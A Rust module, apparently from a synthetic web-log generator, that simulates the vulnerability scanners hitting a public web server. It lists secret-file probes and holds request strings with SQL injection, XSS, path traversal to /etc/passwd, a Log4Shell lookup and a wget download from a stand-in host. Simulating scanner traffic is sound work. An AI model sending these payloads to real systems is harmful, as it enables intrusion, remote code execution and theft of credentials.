//! Scanners: what anything that listens on port 443 is sent all day.

use crate::agents;
use crate::dice::{Actor, Dice};
use crate::network;
use crate::story::{DAY_US, after};
use crate::world::{Class, Visitor, World};

const FILES: [&str; 30] = [
    "/.env",
    "/.env.bak",
    "/.env.production",
    "/api/.env",
    "/backend/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.DS_Store",
    "/.vscode/sftp.json",
    "/wp-config.php.bak",
    "/config.php",
    "/phpinfo.php",
    "/info.php",
    "/backup.zip",
    "/dump.sql",
    "/db.sql.gz",
    "/server-status",
    "/actuator/env",
    "/actuator/health",
    "/debug/default/view",
    "/telescope/requests",
    "/_profiler/phpinfo",
    "/config.json",
    "/docker-compose.yml",
    "/web.config",
    "/.htpasswd",
    "/storage/logs/laravel.log",
];
const APPLICATIONS: [&str; 20] = [
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/wordpress/wp-login.php",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/phpMyAdmin/index.php",
    "/pma/index.php",
    "/mysql/admin/index.php",
    "/adminer.php",
    "/administrator/index.php",
    "/manager/html",
    "/solr/admin/info/system",
    "/boaform/admin/formLogin",
    "/cgi-bin/luci/;stok=/locale",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/HNAP1/",
    "/owa/auth/logon.aspx",
    "/geoserver/web/",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
];
const INJECTIONS: [&str; 10] = [
    "/search?q=1%27%20OR%20%271%27=%271",
    "/search?q=1%20UNION%20SELECT%20NULL,version(),NULL--%20-",
    "/product/oak-desk-lamp?id=1%20AND%20SLEEP(5)",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?x=${jndi:ldap://203.0.113.99:1389/a}",
    "/index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
    "/search?q=;cat%20/etc/passwd",
    "/?page=php://filter/convert.base64-encode/resource=index.php",
    "/search?q=%24%7B7*7%7D",
    "/?cmd=wget%20http://203.0.113.99/x.sh",
];
const TRAVERSALS: [(&str, u16); 6] = [
    ("/../../../../etc/passwd", 400),
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
    ("/assets/..%2f..%2f..%2fetc/passwd", 400),
    ("/%2e%2e/%2e%2e/%2e%2e/windows/win.ini", 400),
    ("/assets/....//....//etc/passwd", 404),
    ("/download?file=../../../../etc/passwd", 404),
];

#[derive(Debug, Clone, Copy)]
enum Scan {
    /// Dozens of secrets within seconds.
    Secrets,
    /// Known holes of other people's software.
    Applications,
    /// Passwords tried on a WordPress that is not there.
    Passwords,
    /// One look, as the search engines of open ports do.
    Look,
    /// Something else than HTTP, or a proxy that is not there.
    Protocol,
    Injection,
    Traversal,
    /// One request every so often, to stay below notice.
    Slow,
    /// Everything a tool knows.
    Full,
}

const SCANS: [(Scan, u32); 9] = [
    (Scan::Secrets, 22),
    (Scan::Applications, 14),
    (Scan::Passwords, 6),
    (Scan::Look, 24),
    (Scan::Protocol, 16),
    (Scan::Injection, 6),
    (Scan::Traversal, 5),
    (Scan::Slow, 6),
    (Scan::Full, 1),
];

pub(crate) fn day(world: &mut World<'_>, seed: u64, day: u16) {
    let mut dice = Dice::new(seed, Actor::Scanner, day, 0);
    for _ in 0..dice.count(12.0) {
        let at_us = world.story.day_start_us(day) + dice.range(0..DAY_US);
        let client = network::scanner(&mut dice);
        let agent = agents::scanner(&mut dice);
        let mut visitor = Visitor::new(Class::Scanner, client, agent);
        let kind = *dice.weighed(&SCANS);
        scan(world, &mut dice, &mut visitor, at_us, kind);
    }
}

/// `count` addresses that ask for one thing every few hours, day after day.
pub(crate) fn slow(world: &mut World<'_>, seed: u64, day: u16, count: u16) {
    for lane in 0..u32::from(count) {
        let mut who = Dice::new(seed, Actor::SlowScanner, u16::MAX, lane);
        let (client, agent) = (network::scanner(&mut who), agents::scanner(&mut who));
        let mut visitor = Visitor::new(Class::Scanner, client, agent);
        let every_s = who.range(2.0..9.0) * 3_600.0;
        let mut dice = Dice::new(seed, Actor::SlowScanner, day, lane);
        let start_us = world.story.day_start_us(day);
        let mut at_us = start_us + dice.gap_us(every_s);
        while at_us < start_us + DAY_US {
            let target = match dice.chance(0.6) {
                true => *dice.pick(&FILES),
                false => *dice.pick(&APPLICATIONS),
            };
            let _ = world.get(&mut dice, &mut visitor, at_us, target, None);
            at_us += dice.gap_us(every_s);
        }
    }
}

fn scan(world: &mut World<'_>, dice: &mut Dice, visitor: &mut Visitor, at_us: i64, kind: Scan) {
    match kind {
        Scan::Secrets => {
            let pause_s = dice.range(0.05..1.5);
            let count = dice.range(6..FILES.len());
            ask_each(world, dice, visitor, at_us, &FILES[..count], pause_s);
        }
        Scan::Applications => {
            let pause_s = dice.range(0.2..4.0);
            let count = dice.range(3..APPLICATIONS.len());
            ask_each(world, dice, visitor, at_us, &APPLICATIONS[..count], pause_s);
        }
        Scan::Passwords => {
            let mut at_us = world
                .get(dice, visitor, at_us, "/wp-login.php", None)
                .end_us;
            for _ in 0..dice.range(8..50) {
                at_us = after(at_us, dice.range(0.3..2.5));
                at_us = world
                    .ask(dice, visitor, at_us, "POST", "/wp-login.php", None)
                    .end_us;
            }
        }
        Scan::Look => {
            let first = world.get(dice, visitor, at_us, "/", None);
            let next = *dice.pick(&[
                "/.env",
                "/.git/config",
                "/wp-login.php",
                "/.well-known/security.txt",
                "/login.action",
            ]);
            let _ = world.get(dice, visitor, after(first.end_us, 0.6), next, None);
        }
        Scan::Protocol => protocol(world, dice, visitor, at_us),
        Scan::Injection => {
            let mut at_us = at_us;
            for _ in 0..dice.range(6..24) {
                at_us = after(at_us, dice.range(0.3..3.0));
                at_us = inject(world, dice, visitor, at_us);
            }
        }
        Scan::Traversal => {
            let mut at_us = at_us;
            for _ in 0..dice.range(3..12) {
                at_us = after(at_us, dice.range(0.2..2.0));
                at_us = traverse(world, dice, visitor, at_us);
            }
        }
        Scan::Slow => {
            let mut at_us = at_us;
            for _ in 0..dice.range(5..14) {
                let target = *dice.pick(&FILES);
                at_us = world.get(dice, visitor, at_us, target, None).end_us;
                at_us = after(at_us, dice.range(240.0..2_400.0));
            }
        }
        Scan::Full => {
            visitor.agent = dice
                .chance(0.5)
                .then(|| "sqlmap/1.8.11#stable (https://sqlmap.org)".into())
                .or(visitor.agent.take());
            let mut at_us = at_us;
            for _ in 0..dice.range(150..400) {
                at_us = after(at_us, dice.range(0.02..0.4));
                let (file, application) = (*dice.pick(&FILES), *dice.pick(&APPLICATIONS));
                at_us = match dice.range(0..10) {
                    0..=3 => world.get(dice, visitor, at_us, file, None).end_us,
                    4..=6 => world.get(dice, visitor, at_us, application, None).end_us,
                    7..=8 => inject(world, dice, visitor, at_us),
                    _ => traverse(world, dice, visitor, at_us),
                };
            }
        }
    }
}

fn ask_each(
    world: &mut World<'_>,
    dice: &mut Dice,
    visitor: &mut Visitor,
    at_us: i64,
    targets: &[&str],
    pause_s: f64,
) {
    let mut at_us = at_us;
    for target in targets {
        at_us = world.get(dice, visitor, at_us, target, None).end_us;
        at_us = after(at_us, dice.around(pause_s, 0.3));
    }
}

/// A few reach a bug.
fn inject(world: &mut World<'_>, dice: &mut Dice, visitor: &mut Visitor, at_us: i64) -> i64 {
    let target = *dice.pick(&INJECTIONS);
    let calm = world.story.at(at_us).is_none();
    if calm && dice.chance(0.03) {
        return world
            .fail(
                visitor,
                at_us,
                &format!("GET {target} {}", visitor.protocol),
            )
            .end_us;
    }
    world.get(dice, visitor, at_us, target, None).end_us
}

/// Nginx refuses a path that climbs out of its root; one that hides it better reaches the application.
fn traverse(world: &mut World<'_>, dice: &mut Dice, visitor: &mut Visitor, at_us: i64) -> i64 {
    let (target, status) = *dice.pick(&TRAVERSALS);
    if status == 400 {
        let request = format!("GET {target} {}", visitor.protocol);
        return world
            .raw(visitor, at_us, 0.0, request.as_bytes(), 400, 157)
            .end_us;
    }
    world.get(dice, visitor, at_us, target, None).end_us
}

fn protocol(world: &mut World<'_>, dice: &mut Dice, visitor: &mut Visitor, at_us: i64) {
    // Refused before any header was read, so there is no agent.
    let nameless = Visitor::new(Class::Scanner, visitor.client, None);
    let mut at_us = at_us;
    for _ in 0..dice.range(1..4) {
        match dice.range(0..9) {
            0..=1 => {
                // A TLS hello where HTTP is due.
                let mut hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec();
                hello.extend((0..dice.range(20..60)).map(|_| dice.range(0x20..=0xff_u8)));
                let _ = world.raw(&nameless, at_us, dice.range(0.0..180.0), &hello, 400, 157);
            }
            2 => {
                let _ = world.raw(
                    visitor,
                    at_us,
                    0.0,
                    b"CONNECT www.example.com:443 HTTP/1.1",
                    405,
                    157,
                );
            }
            3 => {
                let target = "http://www.example.com/";
                let _ = world.get(dice, visitor, at_us, target, None);
            }
            4 => {
                let _ = world.raw(&nameless, at_us, dice.range(0.0..900.0), b"", 400, 0);
            }
            5 => {
                let _ = world.raw(&nameless, at_us, 0.0, b"PRI * HTTP/2.0", 400, 157);
            }
            6 => {
                let _ = world.raw(
                    &nameless,
                    at_us,
                    0.0,
                    b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
                    400,
                    157,
                );
            }
            7 => {
                let _ = world.raw(&nameless, at_us, 60_000.0, b"", 408, 0);
            }
            _ => {
                let _ = world.raw(&nameless, at_us, 0.0, b"SSH-2.0-Go", 400, 157);
            }
        }
        at_us = after(at_us, dice.range(0.1..30.0));
    }
}
